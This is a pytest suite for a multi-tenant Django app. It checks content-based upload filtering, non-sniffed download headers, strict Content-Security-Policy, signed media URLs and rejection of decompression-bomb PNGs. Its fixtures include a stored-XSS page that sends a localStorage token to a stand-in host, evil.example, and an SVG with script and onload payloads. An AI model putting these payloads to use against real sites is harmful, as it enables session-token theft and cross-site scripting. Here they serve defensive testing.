"""Issue 18, items 1 and 10: what people upload is allowed by its bytes (never its name), user files
are served as downloads that a browser never sniffs, every page carries a strict
Content-Security-Policy, and an image whose header claims 12000×12000 pixels is refused before a
single pixel is decoded."""

import os
import resource
import subprocess
import sys
import time
import zipfile
from io import BytesIO

import pytest
from django.conf import settings as django_settings
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django_tenants.utils import schema_context
from PIL import Image

from core.uploads import signed_media_url
from notices.models import Announcement, AnnouncementAttachment

pytestmark = pytest.mark.django_db

STORED_SCRIPT = b"<html><body><script>fetch('//evil.example/?t='+localStorage.token)</script></body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><script>alert(1)</script></svg>'
)
PDF = b"%PDF-1.4\n1 0 obj << >> endobj\n%%EOF\n"


def docx() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def plain_zip() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("index.html", STORED_SCRIPT)
    return out.getvalue()


def bomb_png() -> bytes:
    """12000×12000 one-bit pixels, all zero: about 17 KB on disk, 432 MB once decoded as RGB."""
    out = BytesIO()
    Image.new("1", (12000, 12000)).save(out, "PNG", optimize=True)
    return out.getvalue()


def post_attachments(client, *files: tuple[str, bytes]):
    return client.post(
        "/api/v1/notices/announcements/",
        {"title": "附件", "body_html": "<p>见附件</p>", "effective_from": "2026-12-01", "audience": "all",
         "attachments": [SimpleUploadedFile(name, content) for name, content in files]},
        format="multipart",
    )  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("通知.html", STORED_SCRIPT),
        ("费率表.pdf", STORED_SCRIPT),  # an HTML page named like a PDF
        ("logo.svg", SVG),
        ("logo.png", SVG),
        ("资料.docx", plain_zip()),  # a zip, but not an Office file
        ("run.exe", b"MZ\x90\x00\x03"),
    ],
)
def test_an_attachment_that_is_not_an_allowed_type_by_content_is_a_400(api, team, name, content) -> None:
    response = post_attachments(api("datang_admin"), (name, content))
    assert response.status_code == 400, response.json()
    assert list(response.json()["fields"]) == ["attachments"]
    assert f"附件「{name}」的类型不支持" in response.json()["fields"]["attachments"][0]
    with schema_context("datang"):
        assert not Announcement.objects.exists()


def test_allowed_attachments_are_kept_under_the_name_of_what_they_are(api, team) -> None:
    jpeg = BytesIO()
    Image.new("RGB", (40, 30), "#C8102E").save(jpeg, "JPEG")
    response = post_attachments(
        api("datang_admin"),
        ("费率表.pdf", PDF),
        ("政策.html", PDF),
        ("细则.docx", docx()),
        ("图.jpg", jpeg.getvalue()),
    )
    assert response.status_code == 201, response.json()
    names = [a["name"] for a in response.json()["attachments"]]
    assert names == ["费率表.pdf", "政策.html.pdf", "细则.docx", "图.jpg"]


def test_user_files_are_downloads_never_sniffed_and_only_real_images_are_inline(api, team) -> None:
    jpeg = BytesIO()
    Image.new("RGB", (40, 30), "#C8102E").save(jpeg, "JPEG")
    created = post_attachments(api("datang_admin"), ("费率表.pdf", PDF), ("图.jpg", jpeg.getvalue())).json()
    pdf_url, jpg_url = (a["url"] for a in created["attachments"])
    # A file stored before the allow-list (or by any other path): HTML on the tenant's origin.
    legacy = default_storage.save("tenants/datang/notices/legacy/旧通知.html", ContentFile(STORED_SCRIPT))
    visitor = api(None, host="datang.localhost")

    pdf = visitor.get(pdf_url)
    assert pdf.status_code == 200
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf["Content-Disposition"].startswith("attachment;")
    assert "filename*=utf-8''%E8%B4%B9%E7%8E%87%E8%A1%A8.pdf" in pdf["Content-Disposition"]
    assert pdf["X-Content-Type-Options"] == "nosniff"
    assert (
        "sandbox" in pdf["Content-Security-Policy"] and "default-src 'none'" in pdf["Content-Security-Policy"]
    )

    old = visitor.get(signed_media_url(legacy))
    assert old.status_code == 200
    assert old["Content-Type"] == "application/octet-stream"  # not text/html: never rendered
    assert old["Content-Disposition"].startswith("attachment;")
    assert old["X-Content-Type-Options"] == "nosniff"

    image = visitor.get(jpg_url)
    assert image["Content-Type"] == "image/jpeg"
    assert image["Content-Disposition"].startswith("inline;")
    assert image["X-Content-Type-Options"] == "nosniff"
    default_storage.delete(legacy)
    with schema_context("datang"):
        assert AnnouncementAttachment.objects.count() == 2


def test_tenant_files_need_the_signed_url_the_api_gave(api, team, settings) -> None:
    """An anonymous visitor, the tenant's own user with a pasted path, another tenant's user (on
    either host), a forged or lapsed signature: all 404. Only branding images are public."""
    created = post_attachments(api("datang_admin"), ("费率表.pdf", PDF)).json()
    url = created["attachments"][0]["url"]
    path, _, query = url.partition("?")
    assert path.startswith("/media/tenants/datang/notices/") and query.startswith("exp=")
    assert api("datang_agent").get(url).status_code == 200
    for client in (api(None, host="datang.localhost"), api("datang_agent"), api("datang_admin")):
        assert client.get(path).status_code == 404  # the bare path, logged in or not
    assert api("bowei_agent").get(url).status_code == 404  # the right signature on another host
    assert api("bowei_agent", host="datang.localhost").get(path).status_code == 404
    name = path.removeprefix("/media/")
    exp = int(query.split("&")[0].removeprefix("exp="))
    forged = f"{path}?exp={exp + settings.MEDIA_URL_TTL_SECONDS}&{query.split('&')[1]}"
    assert api(None, host="datang.localhost").get(forged).status_code == 404  # a longer life, same sig
    lapsed = signed_media_url(name, now=time.time() - 3 * settings.MEDIA_URL_TTL_SECONDS)
    assert api(None, host="datang.localhost").get(lapsed).status_code == 404
    other = default_storage.save("tenants/datang/notices/other/x.pdf", ContentFile(PDF))
    try:  # a signature is for one file only
        assert api(None, host="datang.localhost").get(f"/media/{other}?{query}").status_code == 404
    finally:
        default_storage.delete(other)
    served = api(None, host="datang.localhost").get(url)
    assert served["Cache-Control"] == "private, max-age=3600"
    assert served["Content-Disposition"].startswith("attachment;")
    assert served["X-Content-Type-Options"] == "nosniff"


def test_branding_images_are_public_but_never_html(api, datang) -> None:
    logo = default_storage.save("tenants/datang/branding/logo-x.svg", ContentFile(SVG))
    try:
        served = api(None, host="datang.localhost").get(f"/media/{logo}")
        assert served.status_code == 200
        assert served["Content-Type"] == "application/octet-stream"
        assert served["Content-Disposition"].startswith("attachment;")
        assert served["X-Content-Type-Options"] == "nosniff"
        assert api(None, host="bowei.localhost").get(f"/media/{logo}").status_code == 404
    finally:
        default_storage.delete(logo)


def _script_src(policy: str) -> list[str]:
    directives = dict(part.strip().split(" ", 1) for part in policy.split(";") if part.strip())
    return directives["script-src"].split()


@pytest.mark.parametrize(
    ("host", "path"),
    [
        ("datang.localhost", "/console/"),
        ("datang.localhost", "/agent/"),
        ("datang.localhost", "/"),
        ("localhost", "/console/"),
        ("datang.localhost", "/api/v1/branding/"),
        ("localhost", "/api/docs/"),
    ],
)
def test_every_page_has_a_content_security_policy_without_inline_script(api, datang, host, path) -> None:
    response = api(None, host=host).get(path)
    policy = response["Content-Security-Policy"]
    assert "'self'" in _script_src(policy)
    assert "'unsafe-inline'" not in _script_src(policy) and "'unsafe-eval'" not in _script_src(policy)
    assert (
        "object-src 'none'" in policy and "frame-ancestors 'none'" in policy and "base-uri 'self'" in policy
    )


def test_swagger_ui_has_no_inline_script(api) -> None:
    html = api(None, host="localhost").get("/api/docs/").content.decode()
    assert "<script>" not in html.replace(" ", "")


def test_connect_src_takes_extra_origins_from_the_environment() -> None:
    """The realtime streams may be served from their own port: CSP_CONNECT_EXTRA extends connect-src."""
    code = (
        "import django, os; os.environ['DJANGO_SETTINGS_MODULE'] = 'config.settings'; django.setup();"
        "from django.conf import settings;"
        "print(' '.join(settings.CONTENT_SECURITY_POLICY['DIRECTIVES']['connect-src']))"
    )
    env = {**os.environ, "CSP_CONNECT_EXTRA": "http://streams.localhost:8001, https://rt.suxinbao.cn"}
    out = subprocess.run(
        [sys.executable, "-c", code], env=env, cwd=django_settings.BASE_DIR, capture_output=True, text=True,
        check=True,
    ).stdout.split()  # fmt: skip
    assert out == [
        "'self'",
        "https://api.stripe.com",
        "http://streams.localhost:8001",
        "https://rt.suxinbao.cn",
    ]


# ---- decompression bombs ------------------------------------------------------------------------


def _bomb_upload(api, where: str):
    content = bomb_png()
    assert len(content) < 20_000
    admin = api("datang_admin")
    if where == "image":
        product = admin.post(
            "/api/v1/products/",
            {"name": "机油", "kind": "goods", "market_price": "210.00", "actual_price": "100.00", "stock": 5},
            format="json",
        ).json()
        picture = SimpleUploadedFile("oil.png", content)
        return lambda: admin.post(
            f"/api/v1/products/{product['id']}/image/", {"image": picture}, format="multipart"
        )
    if where == "logo":
        logo = SimpleUploadedFile("logo.png", content)
        return lambda: admin.post("/api/v1/branding/images/logo/", {"file": logo}, format="multipart")
    return lambda: post_attachments(admin, ("图.png", content))


@pytest.mark.parametrize("field", ["image", "logo", "attachments"])
def test_a_12000_by_12000_png_is_refused_fast_naming_the_field(api, team, field) -> None:
    send = _bomb_upload(api, field)
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    response = send()
    elapsed = time.perf_counter() - started
    assert response.status_code == 400, response.json()
    assert list(response.json()["fields"]) == [field]
    assert "图片过大" in response.json()["fields"][field][0]
    # Decoding it took 4.7 s and 0.9 GB per upload; the header alone is read now.
    assert elapsed < 1.5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - peak_before < 100 * 1024  # KB


def test_an_image_just_over_the_pixel_cap_is_refused_by_its_header(api, team) -> None:
    """9000×5000 = 45 MP: over the 40 MP cap, under twice it (where Pillow itself would refuse)."""
    out = BytesIO()
    Image.new("1", (9000, 5000)).save(out, "PNG", optimize=True)
    logo = SimpleUploadedFile("logo.png", out.getvalue())
    response = api("datang_admin").post("/api/v1/branding/images/logo/", {"file": logo}, format="multipart")
    assert response.status_code == 400
    assert response.json()["fields"] == {"logo": ["图片过大：9000×5000 像素，最多 40 百万像素"]}
